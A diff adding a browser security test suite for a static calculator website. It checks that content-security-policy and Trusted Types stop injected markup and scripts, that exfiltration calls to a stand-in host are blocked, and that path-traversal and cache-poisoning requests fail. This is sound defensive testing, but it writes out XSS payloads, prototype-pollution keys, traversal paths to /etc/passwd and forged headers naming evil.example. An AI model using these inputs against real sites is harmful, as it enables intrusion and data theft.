@@ -1,0 +1,481 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { createServer, request, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
+import { useBrowser } from './browser.ts';
+import { awakeCalculator, calculatorPath, fillIn, inputOf, paste } from './calculator-page.ts';
+
+const openPage = useBrowser();
+
+const now = '2026-11-24T09:00:00+08:00';
+const ID = 'flexible-employment';
+/** Markup that would set `window.attacked` and leave an element of its own, in whatever place it came to stand. */
+const MARKUP = `"'><img src=x onerror=attacked=1><svg onload=attacked=1></svg><script>attacked=1</script>`;
+const query = (parameters: Record<string, string>) => `?${new URLSearchParams(parameters)}`;
+
+/** Nothing ran, and no element stands in the page that the site does not make itself. */
+async function expectUnharmed(page: Page): Promise<void> {
+  const found = await page.evaluate(() => ({
+    ran: 'attacked' in window || 'polluted' in {},
+    elements: [...document.querySelectorAll('img, iframe, object, embed, base, svg[onload]')]
+      .length,
+    handlers: [...document.querySelectorAll('*')].filter((one) =>
+      one.getAttributeNames().some((name) => name.startsWith('on')),
+    ).length,
+  }));
+  expect(found).toEqual({ ran: false, elements: 0, handlers: 0 });
+}
+
+describe('every built page', () => {
+  const dist = fileURLToPath(new URL('../../dist', import.meta.url));
+  const pages = readdirSync(dist, { recursive: true, encoding: 'utf8' })
+    .filter((name) => name.endsWith('.html'))
+    .map((name) => ({ name, html: readFileSync(join(dist, name), 'utf8') }));
+
+  test('is there', () => {
+    expect(pages.length).toBeGreaterThanOrEqual(16);
+  });
+
+  test.each(pages)(
+    'has a policy that allows no inline code and no text as markup: $name',
+    ({ html }) => {
+      const policy =
+        /<meta http-equiv="content-security-policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
+      expect(policy).toContain("default-src 'none'");
+      expect(policy).toContain("require-trusted-types-for 'script'");
+      expect(policy).toContain("trusted-types 'none'");
+      expect(policy).toMatch(/script-src [^;]*'sha256-/);
+      expect(policy).not.toMatch(/'unsafe-|strict-dynamic|https?:|\*/);
+      // Astro puts the policy last into the head: before it stand the site's own files and plain data alone.
+      const before = html.slice(0, html.indexOf('http-equiv="content-security-policy"'));
+      const code = (before.match(/<script\b[^>]*>/g) ?? []).filter(
+        (tag) => !/ src="\/[^/]|type="(?:application\/ld\+json|speculationrules)"/.test(tag),
+      );
+      expect(code).toEqual([]);
+    },
+  );
+
+  test.each(pages)('has no style or handler in an attribute: $name', ({ html }) => {
+    const tags =
+      html.replace(/<script\b[^>]*>[\s\S]*?<\/script>/g, '').match(/<[a-z][^<>]*>/gi) ?? [];
+    expect(
+      tags.filter((tag) => /\s(?:style|on[a-z]+)=/i.test(tag.replace(/"[^"]*"/g, '""'))),
+    ).toEqual([]);
+  });
+});
+
+describe('what a link says', () => {
+  test.each<[string, string, Record<string, string>]>([
+    ['a pick and a number', ID, { pension: MARKUP, months: MARKUP }],
+    ['money and a month', 'work-injury-rate-cut', { monthlyBase: MARKUP, from: MARKUP }],
+    ['a choice and a day', 'team-prize-difference', { medal: MARKUP, awardedOn: MARKUP }],
+    ['a table', 'veteran-hire', { employer: 'enterprise', hires: `${MARKUP},${MARKUP};,,1` }],
+    ['twelve numbers', 'domestic-service-headcount', { monthlyHeadcounts: `${MARKUP},1` }],
+  ])('is no markup in %s of a calculator', async (_, id, answers) => {
+    const named = Object.entries(answers).map(([name, value]) => [`${id}.${name}`, value]);
+    const { page } = await openPage(calculatorPath(id) + query(Object.fromEntries(named)), { now });
+    const calculator = await awakeCalculator(page, id);
+    await expect.poll(() => calculator.innerHTML()).toContain('img src=x');
+    await calculator.getByRole('button', { name: '计算' }).click();
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in the name of a parameter, which is named as stale', async () => {
+    const { page } = await openPage(`/articles/5/${query({ [`${ID}.${MARKUP}`]: MARKUP })}`, {
+      now,
+    });
+    const calculator = await awakeCalculator(page, ID);
+    await expect
+      .poll(() => calculator.locator('.calc-stale').innerText())
+      .toContain(MARKUP.slice(0, 20));
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in the day that is asked for', async () => {
+    const { page } = await openPage(`/articles/5/${query({ on: MARKUP })}`, { now });
+    expect(await page.locator('[data-refused-words]').innerText()).toContain('<img src=x');
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in a search or in its filters', async () => {
+    const parameters = { q: `残疾人${MARKUP}`, kind: MARKUP, who: MARKUP, state: MARKUP };
+    const { page } = await openPage(`/search/${query(parameters)}`, { now });
+    await expect.poll(() => page.locator('[data-results]').getAttribute('data-state')).toBe('done');
+    expect(await page.locator('main [data-search-input]').inputValue()).toContain(MARKUP);
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in an estimate', async () => {
+    const parameters = { who: MARKUP, skip: MARKUP, [`${ID}.months`]: MARKUP, [MARKUP]: MARKUP };
+    const { page } = await openPage(`/estimate/${query(parameters)}`, { now });
+    await expect.poll(() => page.locator('.calc-stale').first().innerText()).toContain('<img');
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in an anchor, nor are names that every object has', async () => {
+    for (const anchor of [MARKUP, '__proto__', '%E0%A4%A']) {
+      const { page } = await openPage(`/articles/5/#${anchor}`, { now });
+      await expectUnharmed(page);
+    }
+  });
+
+  test('changes no prototype', async () => {
+    const names = [
+      '__proto__.polluted',
+      `${ID}.__proto__`,
+      `${ID}.__proto__.polluted`,
+      'constructor.prototype.polluted',
+      `${ID}.constructor`,
+    ];
+    const parameters = Object.fromEntries(names.map((name) => [name, '1']));
+    for (const path of ['/articles/5/', '/estimate/', '/search/']) {
+      const { page } = await openPage(path + query(parameters), { now });
+      if (path === '/articles/5/') await awakeCalculator(page, ID);
+      await expectUnharmed(page);
+    }
+  });
+
+  test('counts once, where it is said twice, and the second is named', async () => {
+    const { page } = await openPage(`/articles/5/?${ID}.months=12&${ID}.months=600`, { now });
+    const calculator = await awakeCalculator(page, ID);
+    await expect.poll(() => inputOf(page, ID, 'months').inputValue()).toBe('12');
+    expect(await calculator.locator('.calc-stale').innerText()).toContain(
+      `${ID}.months：链接里写了两次`,
+    );
+  });
+
+  test.each([
+    ['turns the writing direction', '\u202E12\u202C'],
+    ['has no width', '1\u200B2\u2060'],
+    ['is no text', '\u0000\uFFFF\uFFFD'],
+    ['is half a character', '%ED%A0%80'],
+  ])('is shown as it is where it %s, and is no number', async (_, sent) => {
+    const { page } = await openPage(`/articles/5/${query({ [`${ID}.months`]: sent })}`, { now });
+    const calculator = await awakeCalculator(page, ID);
+    await expect.poll(() => calculator.locator('.calc-stale').innerText()).toContain('看不明白');
+    expect(await calculator.locator('.calc-headline').count()).toBe(0);
+  });
+
+  test.each([
+    ['a number', `/articles/5/?${ID}.months=${'1,'.repeat(3500)}#${ID}`],
+    ['a table', `/articles/4/?veteran-hire.hires=${',;'.repeat(3500)}#veteran-hire`],
+    ['a search', `/search/?q=${encodeURIComponent('第 一 条 '.repeat(200))}`],
+    ['a hundred questions to skip', `/estimate/?who=working&skip=${'x,'.repeat(3500)}`],
+  ])('is answered however long it is: %s', async (_, path) => {
+    const { page } = await openPage(path, { now });
+    await expect
+      .poll(() => page.locator('[data-awake=true], [data-state=done]').count())
+      .toBeGreaterThan(0);
+    await expectUnharmed(page);
+  });
+});
+
+describe('what is typed, pasted or stored', () => {
+  test('is no markup in a list, nor in the table that becomes of it', async () => {
+    const { page } = await openPage('/articles/4/', { now });
+    const calculator = await awakeCalculator(page, 'veteran-hire');
+    await paste(
+      inputOf(page, 'veteran-hire', 'hires.0.dischargedOn'),
+      `2021-06-01\t${MARKUP}\t12\n${MARKUP}\t\t`,
+    );
+    await expect.poll(() => calculator.innerText()).toContain('已粘贴 2 行');
+    await calculator.getByRole('button', { name: '计算' }).click();
+    await calculator.getByRole('button', { name: '从表格粘贴' }).click();
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in a result, in its text, on paper, or in the address', async () => {
+    const { page } = await openPage('/articles/1/', {
+      now,
+      prepare: (context) =>
+        context.addInitScript(() => {
+          window.print = () => {};
+        }),
+    });
+    const calculator = await awakeCalculator(page, 'work-injury-rate-cut');
+    const typed = { monthlyBase: '500000', ratePercent: '0.4', from: '2021-10', through: MARKUP };
+    await fillIn(page, 'work-injury-rate-cut', typed);
+    await calculator.getByRole('button', { name: '计算' }).click();
+    await expect.poll(() => calculator.getByRole('alert').innerText()).toContain('看不明白');
+    await fillIn(page, 'work-injury-rate-cut', { through: '2022-06' });
+    await calculator.getByRole('button', { name: '打印' }).click();
+    await page.locator('.calc-sheet').waitFor({ state: 'attached' });
+    await expectUnharmed(page);
+  });
+
+  test('is no markup in what the browser remembers of the display', async () => {
+    const { page } = await openPage('/', {
+      now,
+      prepare: (context) =>
+        context.addInitScript((markup) => {
+          localStorage.setItem('theme', markup);
+          localStorage.setItem('care', markup);
+        }, MARKUP),
+    });
+    await page.locator('[data-display=theme]').click();
+    await expectUnharmed(page);
+  });
+
+  test('comes from no other window: messages and names are not listened to', async () => {
+    const { page } = await openPage(`/articles/5/`, { now });
+    await page.evaluate((markup) => {
+      window.name = markup;
+      postMessage({ html: markup, __proto__: { polluted: 1 } }, '*');
+    }, MARKUP);
+    await page.reload();
+    await expectUnharmed(page);
+  });
+});
+
+/** What an attacker would run in a page: code as a text, or a function of another host's address. */
+type Attack = string | ((elsewhere: string) => unknown);
+
+describe('markup that got in all the same', () => {
+  /** Runs in a page what an attacker would, and tells what became of it and what the browser refused. */
+  async function attack(run: Attack) {
+    const { page, errors, foreignRequests } = await openPage('/404.html', { expectErrors: true });
+    const told = await page
+      .evaluate(run, 'http://127.0.0.1:9')
+      .then(String, (error: Error) => error.message);
+    await page.waitForTimeout(50);
+    const ran = await page.evaluate(() => 'attacked' in window);
+    return { told, refused: errors.join('\n'), ran, left: foreignRequests.splice(0) };
+  }
+
+  test.each<[string, Attack, RegExp]>([
+    ['a handler', () => document.body.setAttribute('onclick', 'attacked=1'), /TrustedScript/],
+    [
+      'a script',
+      () => {
+        const script = document.createElement('script');
+        script.append('window.attacked=1');
+        document.body.append(script);
+      },
+      /script/i,
+    ],
+    [
+      'a script from elsewhere',
+      (elsewhere) => {
+        document.createElement('script').src = `${elsewhere}/x.js`;
+      },
+      /TrustedScriptURL/,
+    ],
+    [
+      'a module from a text',
+      `import('data:text/javascript,window.attacked=1')`,
+      /script-src|Failed to fetch/,
+    ],
+    [
+      'a link that is a script',
+      () => {
+        const link = document.createElement('a');
+        link.href = 'javascript:attacked=1';
+        document.body.append(link);
+        link.click();
+      },
+      /script-src|javascript:|TrustedScript/i,
+    ],
+    [
+      'a style',
+      () => {
+        const style = document.createElement('style');
+        style.append('body { display: none }');
+        document.body.append(style);
+      },
+      /style-src/,
+    ],
+    [
+      'a frame',
+      (elsewhere) => {
+        const frame = document.createElement('iframe');
+        frame.src = elsewhere;
+        document.body.append(frame);
+      },
+      /frame-src/,
+    ],
+    [
+      // Later, because what the test itself evaluates is allowed to.
+      'a function from a text',
+      () => setTimeout(() => new Function('window.attacked=1')()),
+      /EvalError|TrustedScript/,
+    ],
+    [
+      'a worker',
+      () => new Worker(URL.createObjectURL(new Blob(['1']))),
+      /TrustedScriptURL|worker-src/,
+    ],
+  ])('runs nothing: %s', async (_, run, refusal) => {
+    const { told, refused, ran } = await attack(run);
+    expect(`${told}\n${refused}`).toMatch(refusal);
+    expect(ran).toBe(false);
+  });
+
+  test.each<[string, () => unknown]>([
+    [
+      'inner markup',
+      () => {
+        document.body.innerHTML = '<b>x</b>';
+      },
+    ],
+    ['markup beside', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')],
+    ['a written document', () => document.write('<b>x</b>')],
+    ['a parsed fragment', () => document.createRange().createContextualFragment('<b>x</b>')],
+    ['a parsed document', () => new DOMParser().parseFromString('<b>x</b>', 'text/html')],
+    ['code from a text', () => setTimeout('window.attacked=1')],
+  ])('cannot be written from a text: %s', async (_, run) => {
+    const { told, ran } = await attack(run);
+    expect(told).toMatch(/Trusted(?:HTML|Script)|unsafe-eval/);
+    expect(ran).toBe(false);
+  });
+
+  test('can make no policy that would trust it', async () => {
+    const { told } = await attack(() =>
+      (
+        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }
+      ).trustedTypes.createPolicy('default', { createHTML: (html: string) => html }),
+    );
+    expect(told).toContain('disallowed');
+  });
+
+  test('cannot point the page’s own links elsewhere', async () => {
+    const { told, refused } = await attack((elsewhere) => {
+      const base = document.createElement('base');
+      base.href = elsewhere;
+      document.head.prepend(base);
+      return document.baseURI;
+    });
+    expect(told).not.toContain('127.0.0.1:9/');
+    expect(refused).toContain('base-uri');
+  });
+
+  test.each<[string, (elsewhere: string) => unknown]>([
+    ['a request', (elsewhere) => fetch(elsewhere)],
+    [
+      'an image',
+      (elsewhere) => {
+        new Image().src = `${elsewhere}/x.png`;
+      },
+    ],
+    ['a beacon', (elsewhere) => navigator.sendBeacon(elsewhere, 'x')],
+    ['a socket', (elsewhere) => new WebSocket(elsewhere.replace('http', 'ws'))],
+    ['a stream', (elsewhere) => new EventSource(elsewhere)],
+    [
+      'a form',
+      (elsewhere) => {
+        const form = document.createElement('form');
+        form.action = elsewhere;
+        document.body.append(form);
+        form.submit();
+      },
+    ],
+  ])('carries nothing away: %s', async (_, run) => {
+    const { told, refused } = await attack(run);
+    expect(`${told}\n${refused}`).toMatch(/Content Security Policy|Failed to fetch|form-action/);
+  });
+});
+
+describe('what goes out and comes in', () => {
+  let elsewhere: string;
+  let server: Server;
+
+  beforeAll(async () => {
+    server = createServer((asked, response) => {
+      response.setHeader('content-type', 'text/html');
+      response.end(
+        `<iframe src="${new URL(asked.url ?? '', 'http://x').searchParams.get('frame')}"></iframe>`,
+      );
+    });
+    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+    elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  afterAll(() => {
+    server.closeAllConnections();
+    server.close();
+  });
+
+  test('another site cannot put a page into a frame', async () => {
+    const framed = `${inject('siteUrl')}/articles/5/`;
+    const { page, foreignRequests } = await openPage(`/?frame=${framed}`, {
+      site: elsewhere,
+      expectErrors: true,
+    });
+    const frame = page.frames()[1];
+    await expect.poll(() => frame?.url()).toContain('chrome-error:');
+    expect(foreignRequests.splice(0)).toEqual([framed]);
+  });
+
+  test('no link opens a window that could reach back, and no page knows where its reader came from', async () => {
+    const { page } = await openPage('/about/');
+    const open = await page.locator('a[target]:not([rel~=noopener])').count();
+    const answer = await page.request.get(page.url());
+    expect(open).toBe(0);
+    expect(answer.headers()).toMatchObject({
+      'cross-origin-opener-policy': 'same-origin',
+      'referrer-policy': 'no-referrer',
+      'x-content-type-options': 'nosniff',
+    });
+  });
+
+  /** What the server answers to a path that is sent exactly as it is written. */
+  const send = (path: string, headers: Record<string, string> = {}) =>
+    new Promise<{ status: number; location: string; body: string }>((resolve, reject) => {
+      const { hostname, port } = new URL(inject('siteUrl'));
+      request({ hostname, port, path, headers }, (response) => {
+        let body = '';
+        response.on('data', (chunk) => {
+          body += chunk;
+        });
+        response.on('end', () =>
+          resolve({
+            status: response.statusCode ?? 0,
+            location: response.headers.location ?? '',
+            body,
+          }),
+        );
+      })
+        .on('error', reject)
+        .end();
+    });
+
+  test.each([
+    '/../package.json',
+    '/%2e%2e/package.json',
+    '/..%2fpackage.json',
+    '/articles/..%2f..%2fpackage.json',
+    '/..%5cpackage.json',
+    '/%2e%2e%2f%2e%2e%2fetc/passwd',
+    '/../dist-other/',
+    '/%00',
+    '/%E0%A4%A',
+    '//evil.example/%2e%2e',
+    'http://evil.example/',
+  ])('a trick with the path leads nowhere: %s', async (path) => {
+    const { status, location, body } = await send(path);
+    expect(status).toBeGreaterThanOrEqual(400);
+    expect(status).toBeLessThan(500);
+    expect(location).toBe('');
+    expect(body).not.toMatch(/devDependencies|root:/);
+  });
+
+  test('neither a query nor a header of the asker changes a byte, so that no cache can be poisoned', async () => {
+    const plain = await send('/articles/5/');
+    const forged = {
+      'x-forwarded-host': 'evil.example',
+      'x-original-url': '/evil',
+      'x-forwarded-proto': 'evil',
+      'accept-language': MARKUP,
+    };
+    for (const asked of [
+      await send(`/articles/5/${query({ q: MARKUP, on: MARKUP })}`),
+      await send('/articles/5/?_escaped_fragment_=&utm_source=x'),
+      await send('/articles/5/', forged),
+    ]) {
+      expect(asked).toEqual(plain);
+    }
+    const redirect = await send(`/articles/5${query({ q: '//evil.example' })}`, forged);
+    expect(redirect.location).toBe('/articles/5/?q=%2F%2Fevil.example');
+  });
+});
